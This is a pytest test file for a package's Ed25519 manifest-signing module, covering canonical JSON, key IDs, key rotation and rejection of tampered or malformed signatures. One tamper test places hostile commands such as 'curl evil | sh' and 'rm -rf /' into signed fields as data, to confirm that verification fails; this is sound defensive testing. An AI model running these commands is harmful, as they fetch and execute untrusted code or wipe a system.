from __future__ import annotations

import base64
import hashlib
import json
from typing import Any

import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey, Ed25519PublicKey

from otakit.errors import ValidationError, VerificationError
from otakit.signing import (
    canonical_bytes,
    generate_private_key,
    load_private_key,
    parse_public_key,
    private_key_pem,
    public_key_line,
    sign_content,
    verify_content,
)
from tests.samples import LEGACY

SEED = bytes(range(32))  # a fixed key, so the signature below is a test vector


def _content() -> dict[str, Any]:
    raw: dict[str, Any] = json.loads((LEGACY / "test.json").read_bytes())
    raw["BeforeUpdate"] = "systemctl stop app"
    raw["description"] = "描述"
    return raw


def test_signature_follows_the_documented_format() -> None:
    key = Ed25519PrivateKey.from_private_bytes(SEED)
    signed = sign_content(_content(), key)
    raw_public = key.public_key().public_bytes(serialization.Encoding.Raw, serialization.PublicFormat.Raw)
    assert signed["signature"]["keyid"] == hashlib.sha256(raw_public).hexdigest()[:16]
    # Verified here from the written-down rules alone, without otakit's verifier.
    message = json.dumps(_content(), sort_keys=True, separators=(",", ":"), ensure_ascii=False).encode(
        "utf-8"
    )
    Ed25519PublicKey.from_public_bytes(raw_public).verify(
        base64.b64decode(signed["signature"]["sig"]), message
    )
    assert public_key_line(key) == "ed25519:" + base64.b64encode(raw_public).decode()


def test_verify_accepts_any_key_order_and_whitespace() -> None:
    key = generate_private_key()
    signed = sign_content(_content(), key)
    reordered = json.loads(json.dumps(dict(reversed(list(signed.items()))), indent=4))
    trusted = [parse_public_key(public_key_line(key))]
    assert verify_content(reordered, trusted).keyid == signed["signature"]["keyid"]
    assert canonical_bytes(reordered) == canonical_bytes(signed)


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("sha256", "0" * 64),
        ("version", "9.9.9"),
        ("BeforeUpdate", "curl evil | sh"),
        ("AfterUpdate", "rm -rf /"),
        ("local", "/etc"),
        ("dependencies", {"evil": ">=0"}),
        ("remote", "http://evil/"),
        ("restore", "x"),
        ("added", "a new key"),
    ],
)
def test_any_changed_field_fails(field: str, value: object) -> None:
    key = generate_private_key()
    signed = sign_content(_content(), key)
    signed[field] = value
    with pytest.raises(VerificationError, match="does not match"):
        verify_content(signed, [parse_public_key(public_key_line(key))])


def test_unsigned_untrusted_and_malformed() -> None:
    key, other = generate_private_key(), generate_private_key()
    trusted = [parse_public_key(public_key_line(key))]
    with pytest.raises(VerificationError, match="not signed"):
        verify_content(_content(), trusted)
    with pytest.raises(VerificationError, match="does not trust"):
        verify_content(sign_content(_content(), other), trusted)
    for bad in [
        {"keyid": 5, "sig": "x"},
        {"keyid": "k"},
        "a string",
        {"keyid": "k", "sig": "!!not base64!!"},
    ]:
        with pytest.raises(VerificationError):
            verify_content({**_content(), "signature": bad}, trusted)
    signed = sign_content(_content(), key)
    signed["signature"]["sig"] = base64.b64encode(b"\0" * 64).decode()
    with pytest.raises(VerificationError, match="does not match"):
        verify_content(signed, trusted)


def test_two_trusted_keys_for_rotation() -> None:
    old, new = generate_private_key(), generate_private_key()
    trusted = [parse_public_key(public_key_line(old)), parse_public_key(public_key_line(new))]
    assert verify_content(sign_content(_content(), old), trusted) == trusted[0]
    assert verify_content(sign_content(_content(), new), trusted) == trusted[1]


def test_keys_round_trip_and_bad_keys() -> None:
    key = generate_private_key()
    again = load_private_key(private_key_pem(key))
    assert public_key_line(again) == public_key_line(key)
    for bad in ["rsa:AAAA", "ed25519:not-base64!", "ed25519:" + base64.b64encode(b"short").decode()]:
        with pytest.raises(ValidationError):
            parse_public_key(bad)
    with pytest.raises(ValidationError):
        load_private_key(b"-----BEGIN PRIVATE KEY-----\nAAAA\n-----END PRIVATE KEY-----\n")
